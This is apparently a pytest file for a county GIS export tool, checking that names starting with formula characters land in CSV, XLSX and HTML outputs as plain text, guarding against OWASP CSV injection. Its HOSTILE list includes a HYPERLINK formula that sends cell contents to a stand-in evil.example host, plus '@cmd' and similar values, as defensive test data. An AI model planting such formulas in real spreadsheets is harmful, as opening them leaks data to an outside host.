"""No text written to a spreadsheet runs as a formula (OWASP CSV injection).

Township and building names that start with ``=``, ``+``, ``-``, ``@``, a tab or a
CR reach summary.csv, the CSV exports and the XLSX workbook as text: a leading
``'`` in CSV, a string cell in XLSX. The review pages keep showing them as text.
"""

from __future__ import annotations

import csv
import html

import openpyxl
from cli_run import assert_message, invoke, tiny_gpkg
from tiny_county import tiny_county

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A2,"x")', "+SUM(1,2)", "-2+3", "@cmd", "\tTab"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def hostile_county() -> dict:
    layers = tiny_county()
    layers["townships"]["name"] = HOSTILE[:2]
    layers["buildings"]["name"] = [HOSTILE[i % len(HOSTILE)] for i in range(len(
        layers["buildings"]))]
    return layers


def csv_cells(path) -> list[str]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_names_like_formulas_are_text_in_every_csv_and_in_the_workbook(tmp_path):
    county = tiny_gpkg(tmp_path, layers=hostile_county())
    proc = invoke("run", county, "--out", "out", "--jobs", "1", "--formats", "csv,xlsx",
                  cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    out = tmp_path / "out"
    files = [out / "summary.csv", *sorted((out / "export" / "csv").glob("*.csv"))]
    seen = set()
    for path in files:
        for cell in csv_cells(path):
            assert not cell.startswith(FORMULA_STARTS), f"{path.name}: {cell!r}"
            seen.add(cell)
    assert "'" + HOSTILE[0] in seen and "'" + HOSTILE[1] in seen

    book = openpyxl.load_workbook(out / "export" / "xlsx" / "summary.xlsx")
    texts = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    assert HOSTILE[0] in texts and HOSTILE[1] in texts, "the names stay as they are, as text"

    page = (out / "map" / "index.html").read_text(encoding="utf-8")
    assert html.escape(HOSTILE[1]) in page or HOSTILE[1] in page


def test_the_readme_says_how_text_is_kept_safe():
    from paths import README

    text = README.read_text(encoding="utf-8")
    assert "formula" in text and "leading `'`" in text


def test_the_national_table_is_spreadsheet_safe(tmp_path):
    tiny_gpkg(tmp_path)
    (tmp_path / "m.csv").write_text("input,out,county_code\nc.gpkg,r/a,=1+1\n",
                                    encoding="utf-8")
    proc = invoke("batch", "m.csv", "--no-maps", "--jobs", "1", cwd=tmp_path)
    assert proc.returncode == 1
    cells = csv_cells(tmp_path / "national_summary.csv")
    assert "'=1+1" in cells
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert_message(invoke("run", "c.gpkg", "--out", "o", "--county-code", "=1+1", cwd=tmp_path),
                   2, "--county-code")
